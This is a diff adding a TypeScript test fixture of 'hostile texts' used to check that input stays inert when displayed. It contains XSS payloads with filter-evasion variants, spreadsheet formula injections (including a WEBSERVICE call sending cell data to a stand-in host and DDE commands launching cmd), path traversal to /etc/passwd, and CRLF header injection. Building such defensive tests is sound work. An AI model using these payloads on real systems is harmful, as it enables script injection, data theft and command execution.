@@ -1,0 +1,105 @@
+/** Markup that would run, load or turn a page over, were it not written out as text. */
+const markup = [
+  '<script>window.ran=1</script>',
+  '<img src=x onerror=window.ran=1>',
+  '<svg onload=window.ran=1>',
+  '<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>',
+  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+  '<object data="javascript:window.ran=1"></object>',
+  '<a href="javascript:window.ran=1">bấm</a>',
+  '<form action="https://ke-la.example"><input name=mat-khau></form>',
+  '<meta http-equiv=refresh content="0;url=https://ke-la.example">',
+  '<base href="https://ke-la.example/">',
+  '<link rel=stylesheet href="https://ke-la.example/a.css">',
+  '<style>body{display:none}</style>',
+  '<details open ontoggle=window.ran=1>',
+  '<math><mtext><img src=x onerror=window.ran=1></mtext></math>',
+  '<body onload=window.ran=1>',
+  '<video><source onerror=window.ran=1></video>',
+  '<input autofocus onfocus=window.ran=1>',
+  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
+  '<template><script>window.ran=1</script></template>',
+  '</title><script>window.ran=1</script>',
+  '</textarea><script>window.ran=1</script>',
+  '--><script>window.ran=1</script><!--',
+  ']]><script>window.ran=1</script>',
+  '" onmouseover="window.ran=1" x="',
+  "' onfocus='window.ran=1' autofocus='",
+  '`${window.ran=1}`',
+  '{{constructor.constructor("window.ran=1")()}}',
+  'javascript:window.ran=1',
+  'data:text/html,<script>window.ran=1</script>',
+] as const;
+
+/** Ways the same text comes written so that a filter would miss it. */
+const disguises: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => text.toUpperCase(),
+  (text) => text.replaceAll('<', '<\u0000'),
+  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
+  (text) => text.replaceAll('=', '\u00a0=\n'),
+  (text) => `Xã Hữu Kiên ${text}`,
+  (text) => `${text}\u202e`,
+];
+
+/** What a spreadsheet would calculate, or start. */
+const formulas = [
+  '=1+1',
+  '=HYPERLINK("https://ke-la.example","Bấm")',
+  '=WEBSERVICE("https://ke-la.example?"&A1)',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '=DDE("cmd";"/C calc";"1")',
+  "'=1+1",
+  '"=1+1"',
+];
+
+/** Marks that turn the letters after them around or hide them (UAX #9), breaks, and letters that are none. */
+const marks = [
+  '\u202a',
+  '\u202b',
+  '\u202d',
+  '\u202e',
+  '\u2066',
+  '\u2067',
+  '\u2068',
+  '\u2069',
+  '\u200e',
+  '\u200f',
+  '\u061c',
+  '\u200b',
+  '\u200d',
+  '\ufeff',
+  '\u00ad',
+  '\u2028',
+  '\u2029',
+  '\u0000',
+  '\u0007',
+  '\u001b[31m',
+  '\ud800',
+  '\udfff',
+  '\ufffe',
+  '\u{e0041}',
+];
+
+/** Hundreds of texts, all different, that must stay text wherever they are shown. */
+export const hostileTexts: readonly string[] = [
+  ...new Set([
+    ...markup.flatMap((text) => disguises.map((disguise) => disguise(text))),
+    ...formulas.flatMap((text) => [text, `${text} em`, ` ${text}`]),
+    ...marks.flatMap((mark) => [`bang diem${mark}xcod.exe`, `${mark}98,5%`, `Xã ${mark}<b>Chi${mark}</b>`]),
+    'a'.repeat(100_000),
+    '../../../../etc/passwd',
+    '..\\..\\windows',
+    '__proto__',
+    'constructor',
+    '%00%0d%0aSet-Cookie: a=b',
+    '\r\nSet-Cookie: a=b',
+  ]),
+];
